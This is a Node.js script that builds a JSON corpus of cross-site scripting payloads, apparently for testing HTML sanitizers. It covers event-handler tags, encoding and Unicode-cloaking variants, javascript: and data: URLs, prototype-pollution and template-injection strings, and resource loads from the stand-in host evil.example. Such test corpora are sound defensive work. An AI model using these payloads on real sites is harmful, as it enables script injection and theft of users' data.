// Generates `xss-corpus.json`: texts, by family, that would run as scripts where treated as markup.
// Each calls `xss()`, and some also request `https://evil.example`.
import { writeFileSync } from 'node:fs'

const RUN = 'xss()'
const EVIL = 'https://evil.example/x'

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
]
const MORE_TAGS = [
  'select autofocus',
  'textarea autofocus',
  'iframe src=x',
  'object data=x',
  'marquee',
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'ontoggle', 'onbegin']
const MORE_HANDLERS = ['onanimationend', 'onpointerover', 'onloadstart', 'onpageshow', 'onstart']

const handlers = [...TAGS, ...MORE_TAGS].flatMap((tag) =>
  [...HANDLERS, ...MORE_HANDLERS].flatMap((handler) => [
    `<${tag} ${handler}=${RUN}>`,
    `"><${tag} ${handler}="${RUN}">`,
    `'/><${tag}/${handler}='${RUN}'//`,
  ]),
)

const FORMS = [
  (text) => text.toUpperCase().replace('XSS', 'xss'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => `"'>${text}`,
  (text) => `--></title></style></textarea></script>${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  (text) => text.replace('xss', '&#x78;ss').replace('(', '&lpar;'),
]
const encoded = ['<script>xss()</script>', `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`]
  .concat([`<a href="javascript:${RUN}">a</a>`, `<iframe srcdoc="<script>${RUN}</script>">`])
  .flatMap((text) => FORMS.map((form) => form(text)))

const loads = [
  `<img src="${EVIL}.png">`,
  `<img srcset="${EVIL}.png 1x">`,
  `<link rel=stylesheet href="${EVIL}.css">`,
  `<link rel=prefetch href="${EVIL}">`,
  `<style>@import "${EVIL}.css";</style>`,
  `<div style="background:url(${EVIL}.png)">`,
  `<script src="${EVIL}.js"></script>`,
  `<script type=module>import "${EVIL}.js"</script>`,
  `<base href="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><input type=submit autofocus onfocus=this.form.submit()>`,
  `<embed src="${EVIL}.swf">`,
  `<video poster="${EVIL}.png">`,
  `<svg><use href="${EVIL}.svg#a"/></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `![picture](${EVIL}.png)`,
  `[link](javascript:${RUN})`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="${EVIL}.xsl"?>`,
]

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java\nscript',
  ' javascript',
  'vbscript',
]
const MORE_SCHEMES = ['\u0001javascript', 'javascript&colon', 'data', 'view-source', 'blob', 'file']
const urls = [...SCHEMES, ...MORE_SCHEMES]
  .flatMap((scheme) => [
    `${scheme}:${RUN}`,
    `${scheme}://%0a${RUN}`,
    `${scheme}:text/html,<script>${RUN}</script>`,
    `${scheme}:image/svg+xml,<svg onload=${RUN}>`,
  ])
  .concat([
    '//evil.example/x.png',
    '/\\evil.example/x.png',
    '\\\\evil.example\\x.png',
    '/api/v2/sign_out',
    'https:evil.example/x.png',
    'https:///evil.example/x.png',
    'https://evil.example\\@127.0.0.1/x.png',
    'https://127.0.0.1@evil.example/x.png',
    'https://evil.example/x.png"onerror="xss()',
    "https://evil.example/x.png'onerror='xss()",
    'https://evil.example/x.png`onerror=`xss()',
    'https://evil.example/<svg onload=xss()>.png',
    'https://evil.example/x.png?a=<script>xss()</script>',
    'https://evil.example/x.svg#<script>xss()</script>',
    'http://evil.example/x.png',
    'ftp://evil.example/x.png',
    'https://[::1',
    'https://evil.example:99999/x.png',
    'https://еvil.example/x.png',
    'https://evil。example/x.png',
    'tel:xss()',
    'mailto:a@evil.example?subject=<script>xss()</script>',
    'intent://evil.example#Intent;scheme=https;end',
    '?m=<script>xss()</script>',
    '#<img src=x onerror=xss()>',
  ])

const CLOAKS = [
  '\u202e',
  '\u200b',
  '\u0000',
  '\ufeff',
  '\u2028',
  '\u2029',
  '\u00ad',
  '\u2066',
  '\u0301',
]
const unicode = CLOAKS.flatMap((cloak) => [
  `${cloak}<script>${RUN}</script>`,
  `<scr${cloak}ipt>${RUN}</scr${cloak}ipt>`,
  `<img${cloak}src=x${cloak}onerror=${RUN}>`,
  `java${cloak}script:${RUN}`,
])

const json = [
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"constructor":{"prototype":{"src":"${EVIL}"}}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"${EVIL}.js"}}`,
  `</script><script>${RUN}</script>`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[\${${RUN}}]]`,
  `\\';${RUN};//`,
  `\u2028;${RUN};`,
  `{name, plural, one {<b>${RUN}</b>}`,
  `{0}{count}{names}<script>${RUN}</script>`,
]

const known = new Set()
const once = (texts) => texts.filter((text) => !known.has(text) && known.add(text))
const corpus = Object.fromEntries(
  Object.entries({ handlers, encoded, loads, urls, unicode, json }).map(([name, texts]) => [
    name,
    once(texts),
  ]),
)
writeFileSync(new URL('xss-corpus.json', import.meta.url), `${JSON.stringify(corpus, null, 2)}\n`)
process.stdout.write(`${known.size} vectors\n`)
